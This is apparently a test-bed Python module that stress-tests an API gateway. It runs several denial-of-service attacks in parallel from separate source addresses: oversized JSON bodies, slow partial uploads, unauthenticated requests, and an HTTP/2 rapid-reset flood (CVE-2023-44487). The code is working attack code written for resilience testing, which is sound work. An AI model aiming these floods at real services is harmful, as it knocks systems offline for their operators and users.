"""The attackers of the siege, a process of its own: `python -m testbed.siege_load`, told whom to attack on stdin.

Each kind comes from an address of its own, with as many connections as one source may have, and begins again when it
is turned away. Ends when its standard input does. Sockets and not httpx: what is attacked with is half of a request, or
a stream that is reset at once.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import ssl
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.exceptions

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

MIB = 1024 * 1024
KINDS = ("values", "slow", "keyless", "reset")
AT_ONCE = 95  # the limit of one source is 100
BODY = 31 * MIB
HEAD = '{"model":"sonnet","max_tokens":9,"messages":[{"role":"user","content":"hi"}],"metadata":{"a":['
PAUSE = 0.05  # between an end and the next try


@dataclass(frozen=True)
class Target:
    """Whom to attack; `sources` are the attackers' addresses, one a kind."""

    address: str
    port: int
    authority: str
    key: str
    sources: dict[str, str]


class Attack:
    """One kind from one source."""

    def __init__(self, target: Target, kind: str) -> None:
        self._target = target
        self._source = target.sources[kind]
        self._context = ssl.create_default_context(cadata=target.authority)
        self.tries = 0

    async def connect(self, alpn: str = "http/1.1") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        context = self._context
        context.set_alpn_protocols([alpn])
        opened = await asyncio.open_connection(
            self._target.address,
            self._target.port,
            ssl=context,
            server_hostname="localhost",
            local_addr=(self._source, 0),
        )
        self.tries += 1  # what finds nobody is no attack
        return opened

    async def post(self, body: bytes, length: int, *, keyed: bool = True) -> None:
        """Sends `body` as the beginning of one of `length` bytes, and waits until the gateway ends it."""
        reader, writer = await self.connect()
        try:
            key = f"authorization: Bearer {self._target.key}\r\n" if keyed else ""
            head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n{key}content-length: {length}\r\n\r\n"
            writer.write(head.encode())
            for start in range(0, len(body), 256 * 1024):
                writer.write(body[start : start + 256 * 1024])
                await writer.drain()
                if reader.at_eof():
                    return
            await reader.read(4096)
        finally:
            writer.transport.abort()

    async def reset(self) -> None:
        """Opens streams and resets each at once (CVE-2023-44487), until the connection ends."""
        reader, writer = await self.connect("h2")
        conversation = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conversation.initiate_connection()
        headers = [(":method", "POST"), (":path", "/v1/messages"), (":scheme", "https"), (":authority", "localhost")]
        try:
            while not reader.at_eof():
                for _ in range(20):
                    stream = conversation.get_next_available_stream_id()
                    conversation.send_headers(stream, [*headers, ("authorization", f"Bearer {self._target.key}")])
                    conversation.reset_stream(stream)
                writer.write(conversation.data_to_send())
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(65536), 0.01)
        except h2.exceptions.ProtocolError:
            pass
        finally:
            writer.transport.abort()


async def again(act: Callable[[], Awaitable[None]]) -> None:
    """For ever: what the gateway does about it is no error here."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await act()
        await asyncio.sleep(PAUSE)


async def attack(target: Target) -> dict[str, int]:
    """Everything at once, until standard input ends. Returns how many tries each kind had."""
    values = (HEAD + "{}," * (BODY // 3)).encode()[:BODY]
    blanks = b" " * (BODY - MIB)
    attacks = {kind: Attack(target, kind) for kind in target.sources}
    acts: dict[str, Callable[[], Awaitable[None]]] = {
        "values": lambda: attacks["values"].post(values, BODY),
        "slow": lambda: attacks["slow"].post(blanks, BODY),
        "keyless": lambda: attacks["keyless"].post(b"", 0, keyed=False),
    }
    if "reset" in attacks:
        acts["reset"] = attacks["reset"].reset
    tasks = [asyncio.create_task(again(acts[kind])) for kind in attacks for _ in range(AT_ONCE)]
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        if task.done():
            task.result()  # an attacker never ends by itself: raises what ended this one
        task.cancel()
    return {kind: one.tries for kind, one in attacks.items()}


def main() -> None:
    """Attack whom the first line of standard input names."""
    # Attackers stand on machines of their own: here they get the processor time that nobody else wants.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    sys.stdout.write(json.dumps(asyncio.run(attack(Target(**json.loads(sys.stdin.readline()))))))


if __name__ == "__main__":
    main()
